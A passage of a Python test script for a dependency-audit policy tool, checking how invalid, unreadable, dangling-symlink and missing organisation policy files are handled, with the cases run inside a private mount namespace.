    check(n and 'CVE-0000-0001' in n[0]['detail'] and f'{org}:1' in n[0]['detail'], 'deny note from the org entry')

    # -- the org file: invalid, unreadable, [locked] allowed only there
    org_write('[attributes]\ntyposquat = never\n')
    s = Sandbox()
    p = s.run('policy', 'show')
    check(p.returncode == 2 and f'{org}:2: invalid action' in err(p), f'invalid org policy: exit 2 with org:line ({short(err(p))})')
    p = s.run('audit', CLEAN)
    check(p.returncode == 2 and f'{org}:2:' in err(p) and not p.stdout, 'audit refuses to run with an invalid org policy')
    org_write(None)
    os.makedirs(org)
    p = s.run('policy', 'show')
    check(p.returncode == 2 and f'{org}: cannot read' in err(p) and 'organisation policy' in err(p),
          f'an org policy that exists but cannot be read is fatal ({short(err(p))})')
    os.rmdir(org)
    os.symlink(os.path.join(os.path.dirname(org), 'nowhere.ini'), org)
    p = s.run('audit', CLEAN)
    check(p.returncode == 2 and f'{org}: cannot read' in err(p), 'a dangling org symlink is fatal, not "absent"')
    org_write(None)
    p, doc, v = s.show()
    check(p.returncode == 0 and not [l for l in doc['layers'] if l['layer'] == 'org'][0]['present'],
          'no org file: the org layer is simply absent')


# ------------------------------------------------------------------ namespace plumbing

def org_path():
    p = run('policy', 'show', '--json', env={'HOME': ART, 'XDG_CONFIG_HOME': ART}, cwd=ART)
    try:
        doc = json.loads(p.stdout)
        return [l for l in doc['layers'] if l['layer'] == 'org'][0]['file']
    except (ValueError, KeyError, IndexError):
        return None


def in_namespace(org, bind_src):
    """Child: bind bind_src (empty) over the org directory, then run the layer
    cases (no org file there) and the org cases."""
    r = subprocess.run(['mount', '--bind', bind_src, os.path.dirname(org)], capture_output=True, text=True)
    if r.returncode != 0:
        print(f'cannot bind-mount over {os.path.dirname(org)}: {r.stderr.strip()}')
        return SKIP
    try:
        layer_cases()
        org_cases(org)
    finally:
        cleanup()
    return 1 if failures else 0


def run_in_namespace(org):
    """Parent: run the layer and org cases in a private mount namespace.
    Returns None when they ran (pass or fail), or why they could not."""
    org_dir = os.path.dirname(org)
    if not shutil.which('unshare') or not shutil.which('mount'):
        return 'unshare(1) or mount(8) is not installed'
    root = os.geteuid() == 0
    # Two runs at once (two build trees) must not remove each other's mount
    # point: hold a lock on this script (no lock file is left behind).
    lock = open(os.path.abspath(__file__), 'rb')
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        return _run_in_namespace(org, org_dir, root)
    finally:
        lock.close()


def _run_in_namespace(org, org_dir, root):
    created = False
    if not os.path.isdir(org_dir):
        if not root:
            return f'{org_dir} does not exist and only root may create the mount point'
        try:
            os.mkdir(org_dir, 0o755)
            created = True
        except OSError as e:
            return f'cannot create the mount point {org_dir}: {e}'
    work = mktemp()
    cmd = ['unshare', '--mount', '--propagation', 'private'] if root else ['unshare', '-rm', '--propagation', 'private']
    try:
        r = subprocess.run(cmd + [sys.executable, os.path.abspath(__file__), '--org-namespace', org, work],
                           capture_output=True, text=True, timeout=900)
    finally:
        if created:
            try:
                os.rmdir(org_dir)
            except OSError as e:
                check(False, f'remove the mount point {org_dir} this test created: {e}')
    sys.stdout.write(r.stdout)
    sys.stderr.write(r.stderr)
    if r.returncode == SKIP:
        return 'no private mount namespace (see above)'
    if r.returncode != 0 and r.stderr.startswith('unshare:') and not r.stdout:
        return f'unshare failed: {r.stderr.strip()[:200]}'
    check(r.returncode == 0, 'layer and org cases in a private mount namespace')
    return None


def main():
    if sys.argv[1:2] == ['--org-namespace']:
        sys.exit(in_namespace(sys.argv[2], sys.argv[3]))
    why = None
    try:
        check_cases()
        org = org_path()
        if not check(org is not None, 'policy show --json names the org policy path'):
            done()
        why = run_in_namespace(org)
        if why:
            if os.path.lexists(org):
                why += f'; the layer cases are skipped too, since {org} exists on this machine'
            else:
                layer_cases()
    finally:
        cleanup()
    if failures:
        done()
    if why:
        print(f'SKIP org-layer cases: {why}')
        print('all other checks passed')
        sys.exit(SKIP)
    done()


main()
